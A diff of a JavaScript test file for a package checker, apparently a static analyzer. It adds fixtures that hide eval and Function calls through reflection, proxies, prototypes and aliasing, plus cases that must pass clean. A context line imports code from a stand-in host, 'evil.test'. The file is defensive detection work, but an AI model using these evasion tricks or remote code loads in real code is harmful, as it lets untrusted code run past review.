@@ -111,6 +111,28 @@ describe('checkPackage', () => {
     ['eval taken by a pattern', 'no-eval', { loads: 'const { eval: run } = globalThis' }],
     ['Function under another name', 'no-eval', { loads: 'const Make = true && Function' }],
     ['Function by reflection', 'no-eval', { loads: "const Make = Reflect.get(window, 'Function')" }],
+    ['eval as an argument', 'no-eval', { loads: 'const run = (text) => [text].map(eval)' }],
+    ['eval by a promise', 'no-eval', { loads: 'const run = (later) => later.then(eval)' }],
+    ['eval by its own call', 'no-eval', { loads: 'const run = (text) => eval.call(null, text)' }],
+    ['eval by reflection', 'no-eval', { loads: 'const run = (text) => Reflect.apply(eval, null, [text])' }],
+    ['eval handed on', 'no-eval', { loads: 'export default eval' }],
+    ['eval of the page as an argument', 'no-eval', { loads: 'const run = (text) => [text].map(window.eval)' }],
+    ['Function made by reflection', 'no-eval', { loads: 'const run = (text) => Reflect.construct(Function, [text])' }],
+    ['a class of Function', 'no-eval', { loads: 'class Maker extends Function {}' }],
+    ['Function behind a proxy', 'no-eval', { loads: 'const Make = new Proxy(Function, {})' }],
+    ['Function by its own call', 'no-eval', { loads: 'const run = (text) => Function.call(null, text)' }],
+    ['Function for each text', 'no-eval', { loads: 'const run = (texts) => texts.map(Function)' }],
+    ['Function of its prototype', 'no-eval', { loads: 'const run = (text) => Function.prototype.constructor(text)' }],
+    [
+      'Function where a parameter is called so',
+      'no-eval',
+      { loads: 'const same = (Function) => Function; const Make = Function' },
+    ],
+    [
+      'a process that ends where a parameter is called so',
+      'no-node',
+      { loads: 'const same = (process) => process; process.exit(0)' },
+    ],
     ['code by a constructor', 'no-eval', { loads: 'const run = (text) => (() => {}).constructor(text)' }],
     ['a timer with a text', 'no-eval', { loads: "const run = () => setTimeout('alert(1)', 10)" }],
     ['code from elsewhere', 'downloaded-code', { loads: "const run = () => import('https://evil.test/code.js')" }],
@@ -377,6 +399,29 @@ describe('checkPackage', () => {
       expect(report.findings).toMatchObject([{ rule: 'stated-permissions', level: 'warning' }])
     },
   )
+
+  test.each([
+    'const page = window; page.eval("1"); page.localStorage.clear()',
+    'const { ...page } = globalThis',
+    'let page; page = self',
+    'const page = () => window',
+  ])('behavior: the page under another name is a warning: %s', async (taken) => {
+    const report = await check({ loads: `const later = () => { ${taken} }` })
+    expect(report.findings).toMatchObject([{ rule: 'readable-code', level: 'warning' }])
+  })
+
+  test.each([
+    'export const isCall = (value) => value instanceof Function || value.constructor === Function',
+    'export const name = typeof Function + typeof eval',
+    'export const bound = Function.prototype.bind',
+    'export const schema = (any) => any.instanceof(Function)',
+    'export const all = { Function: 1, eval: 2 }.eval',
+    'export const kinds = ({ Function: Kind }, { Function }) => [Function, Kind]',
+    'export function make() { class Function {} return Function }',
+    'export const read = (self) => { const { length: size } = self; const all = self; return [all, size] }',
+  ])('behavior: what makes no code from text: %s', async (loads) => {
+    expect((await check({ loads, manifest: { factory: 'notes' } })).findings).toEqual([])
+  })
 
   test('behavior: permissions in a variable are a warning', async () => {
     const report = await check({ loads: 'const hooks = {}', plugin: 'hooks' })
